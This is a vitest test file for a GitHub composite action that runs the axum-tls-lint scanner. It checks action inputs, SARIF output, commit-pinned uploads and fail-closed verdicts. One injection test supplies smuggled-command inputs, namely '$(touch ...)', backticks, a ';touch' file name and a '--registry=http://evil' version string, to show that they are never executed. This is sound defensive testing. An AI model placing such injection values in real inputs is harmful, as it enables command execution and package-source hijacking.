// The composite GitHub Action: its definition, and its script step run with a fake Actions
// environment (GITHUB_OUTPUT, GITHUB_ACTION_PATH, inputs as environment variables).
import { describe, expect, it } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { repoRoot } from '../helpers/cli.js';
import { mtlsService, tempProject, CARGO } from './sources.js';

const actionYml = readFileSync(join(repoRoot, 'action.yml'), 'utf8');
const script = join(repoRoot, 'scripts', 'action-run.sh');

interface StepRun {
  status: number;
  stdout: string;
  outputs: Record<string, string>;
}

function runStep(mode: 'scan' | 'verdict', cwd: string, env: Record<string, string>): StepRun {
  const outputFile = join(cwd, '.github-output');
  writeFileSync(outputFile, '');
  const result = spawnSync('bash', [script, mode], {
    cwd,
    encoding: 'utf8',
    env: {
      PATH: process.env.PATH ?? '',
      HOME: process.env.HOME ?? '',
      GITHUB_OUTPUT: outputFile,
      GITHUB_ACTION_PATH: repoRoot,
      ...env,
    },
  });
  const outputs = Object.fromEntries(
    readFileSync(outputFile, 'utf8')
      .trim()
      .split('\n')
      .filter(Boolean)
      .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
  );
  return { status: result.status ?? -1, stdout: result.stdout + result.stderr, outputs };
}

/** The workspace of a job: a git checkout (SARIF paths are relative to its root). */
function checkout(dir: string): string {
  execFileSync('git', ['init', '-q'], { cwd: dir });
  return dir;
}

describe('action.yml', () => {
  it('is a composite action with the documented inputs', () => {
    expect(actionYml).toMatch(/^runs:\n {2}using: composite$/m);
    for (const input of ['paths', 'version', 'sarif-file', 'upload', 'category', 'fail-on-findings']) {
      expect(actionYml, input).toMatch(new RegExp(`^ {2}${input}:\\n {4}description: `, 'm'));
    }
  });

  it('passes inputs to scripts through env:, never interpolated into shell text', () => {
    const runLines = actionYml.split('\n').filter((l) => /^\s+run: /.test(l));
    expect(runLines.length).toBeGreaterThanOrEqual(2);
    for (const line of runLines) {
      expect(line).not.toContain('${{');
      expect(line).toMatch(/run: bash "\$GITHUB_ACTION_PATH\/scripts\/action-run\.sh" (scan|verdict)$/);
    }
    expect(actionYml).toContain('INPUT_PATHS: ${{ inputs.paths }}');
    expect(actionYml).toContain('INPUT_CATEGORY: ${{ inputs.category }}');
  });

  it('uploads with github/codeql-action/upload-sarif v4, pinned by commit, when asked, even after findings; exposes its sarif-id', () => {
    expect(actionYml).toMatch(/^ {6}uses: github\/codeql-action\/upload-sarif@[0-9a-f]{40} # v4\.\d+\.\d+$/m);
    expect(actionYml).not.toMatch(/uses: [^\n]*@v\d+\s*$/m);
    expect(actionYml).toContain('value: ${{ steps.upload.outputs.sarif-id }}');
    expect(actionYml).toContain(
      "if: ${{ always() && inputs.upload == 'true' && steps.scan.outputs.sarif-written == 'true' }}",
    );
    expect(actionYml).toContain('sarif_file: ${{ steps.scan.outputs.sarif-file }}');
    // The verdict comes after the upload, so failing on findings never skips it.
    expect(actionYml.indexOf('upload-sarif@')).toBeLessThan(actionYml.indexOf('action-run.sh" verdict'));
    // The verdict runs whatever happened before it, and knows whether a report was written.
    expect(actionYml).toMatch(/- name: Verdict\n {6}# [^\n]*\n {6}if: \$\{\{ always\(\) \}\}\n/);
    expect(actionYml).toContain('SARIF_WRITTEN: ${{ steps.scan.outputs.sarif-written }}');
  });
});

describe('scripts/action-run.sh scan (fake Actions environment)', () => {
  it('writes SARIF, records the outputs and exits 0 even with findings', () => {
    const dir = checkout(mtlsService());
    const step = runStep('scan', dir, {
      INPUT_PATHS: 'src',
      INPUT_VERSION: repoRoot,
      INPUT_SARIF_FILE: 'results.sarif',
      INPUT_CATEGORY: '',
    });
    expect(step.status, step.stdout).toBe(0);
    expect(step.outputs).toEqual({
      'sarif-file': 'results.sarif',
      'sarif-written': 'true',
      findings: '1',
      'exit-code': '1',
    });
    const sarif = JSON.parse(readFileSync(join(dir, 'results.sarif'), 'utf8'));
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri).toBe('src/tls.rs');
    // automationDetails only when a category is given.
    expect(sarif.runs[0].automationDetails).toBeUndefined();
  });

  it('category sets automationDetails.id; paths are one per line, spaces belong to the path', () => {
    const dir = tempProject({ 'Cargo.toml': CARGO, 'a.rs': 'fn main() {}\n', 'my crate/b.rs': 'fn main() {}\n' });
    const step = runStep('scan', dir, {
      INPUT_PATHS: 'a.rs \n\n my crate/b.rs\n',
      INPUT_VERSION: repoRoot,
      INPUT_CATEGORY: 'tls-lint',
    });
    expect(step.outputs).toMatchObject({ 'sarif-file': 'axum-tls-lint.sarif', 'exit-code': '0', findings: '0' });
    const sarif = JSON.parse(readFileSync(join(dir, 'axum-tls-lint.sarif'), 'utf8'));
    expect(sarif.runs[0].automationDetails).toEqual({ id: 'tls-lint/' });
  });

  it("without a version, runs the action's own version from npm", () => {
    const dir = mtlsService();
    const fakeAction = tempProject({ 'package.json': '{"version": "9.8.7"}' });
    const bin = join(fakeAction, 'bin-fake');
    mkdirSync(bin);
    writeFileSync(join(bin, 'npx'), '#!/usr/bin/env bash\nprintf "%s\\n" "$@" > npx-args.txt\nexit 1\n');
    chmodSync(join(bin, 'npx'), 0o755);
    const step = runStep('scan', dir, {
      GITHUB_ACTION_PATH: fakeAction,
      PATH: `${bin}:${process.env.PATH}`,
      INPUT_PATHS: 'src\n-weird\n/abs\n../up',
    });
    expect(readFileSync(join(dir, 'npx-args.txt'), 'utf8').split('\n').filter(Boolean)).toEqual([
      '--yes',
      'axum-tls-lint@9.8.7',
      '--format',
      'sarif',
      '--output-file',
      'axum-tls-lint.sarif',
      '--',
      './src',
      './-weird',
      '/abs',
      '../up',
    ]);
    // npx failed (no package, no network): no report, so a failed scan, not "findings".
    expect(step.outputs).toEqual({ 'sarif-file': 'axum-tls-lint.sarif', 'sarif-written': 'false', 'exit-code': '2' });
    expect(step.stdout).toContain(
      '::error title=axum-tls-lint::the scan wrote no readable SARIF report (the CLI exited with 1): nothing was scanned; see the log above\n',
    );
  });

  it('fails closed: exit 0 or 1 without a report of this run is a failed scan (a stale report does not count)', () => {
    const dir = mtlsService({ 'axum-tls-lint.sarif': '{"version": "2.1.0", "runs": [{"results": []}]}' });
    const fakeAction = tempProject({ 'package.json': '{"version": "9.8.7"}' });
    const bin = join(fakeAction, 'bin-fake');
    mkdirSync(bin);
    writeFileSync(join(bin, 'npx'), '#!/usr/bin/env bash\nexit 0\n');
    chmodSync(join(bin, 'npx'), 0o755);
    const step = runStep('scan', dir, { GITHUB_ACTION_PATH: fakeAction, PATH: `${bin}:${process.env.PATH}` });
    expect(step.outputs).toEqual({ 'sarif-file': 'axum-tls-lint.sarif', 'sarif-written': 'false', 'exit-code': '2' });
    expect(existsSync(join(dir, 'axum-tls-lint.sarif'))).toBe(false);
  });

  it('a folder named rules is scanned, not taken for the rules command', () => {
    const dir = checkout(
      tempProject({
        'rules/Cargo.toml': CARGO,
        'rules/src/main.rs': 'mod tls;\nfn main() { let _ = std::fs::read("client-ca.pem"); }\n',
        'rules/src/tls.rs': readFileSync(join(mtlsService(), 'src', 'tls.rs'), 'utf8'),
      }),
    );
    const step = runStep('scan', dir, { INPUT_PATHS: 'rules', INPUT_VERSION: repoRoot });
    expect(step.outputs).toEqual({
      'sarif-file': 'axum-tls-lint.sarif',
      'sarif-written': 'true',
      findings: '1',
      'exit-code': '1',
    });
    const sarif = JSON.parse(readFileSync(join(dir, 'axum-tls-lint.sarif'), 'utf8'));
    expect(sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri).toBe('rules/src/tls.rs');
  });

  it('inputs are data, not shell: no command substitution, no option injection', () => {
    const dir = mtlsService();
    const step = runStep('scan', dir, {
      INPUT_PATHS: '$(touch pwned-paths) `touch pwned-tick`',
      INPUT_VERSION: repoRoot,
      INPUT_SARIF_FILE: 'out;touch pwned-sarif',
    });
    expect(existsSync(join(dir, 'pwned-paths'))).toBe(false);
    expect(existsSync(join(dir, 'pwned-tick'))).toBe(false);
    expect(existsSync(join(dir, 'pwned-sarif'))).toBe(false);
    expect(step.outputs['exit-code']).toBe('2');
    const version = runStep('scan', dir, { INPUT_VERSION: '1.0.0 --registry=http://evil; touch pwned-version' });
    expect(existsSync(join(dir, 'pwned-version'))).toBe(false);
    expect(version.outputs['exit-code']).toBe('2');
    expect(version.stdout).toContain('::error title=axum-tls-lint::version must be an npm version');
  });
});

describe('scripts/action-run.sh verdict', () => {
  const dir = tempProject({});
  const verdict = (code: string, fail = 'true', written = 'true') =>
    runStep('verdict', dir, { SCAN_EXIT_CODE: code, INPUT_FAIL_ON_FINDINGS: fail, SARIF_WRITTEN: written }).status;

  it('fails on findings unless fail-on-findings is false; always fails when the scan failed', () => {
    expect(verdict('0')).toBe(0);
    expect(verdict('1')).toBe(1);
    expect(verdict('1', 'false')).toBe(0);
    expect(verdict('2')).toBe(2);
    expect(verdict('2', 'false')).toBe(2);
  });

  it('fails when no report was written or the scan step recorded nothing, even with fail-on-findings false', () => {
    expect(verdict('0', 'false', 'false')).toBe(2);
    expect(verdict('1', 'false', '')).toBe(2);
    expect(verdict('', 'false', '')).toBe(2);
    const step = runStep('verdict', dir, { SCAN_EXIT_CODE: '1', INPUT_FAIL_ON_FINDINGS: 'false' });
    expect(step.stdout).toBe(
      "::error title=axum-tls-lint::the scan did not complete (exit code 2); see the Scan step's log\n",
    );
  });
});
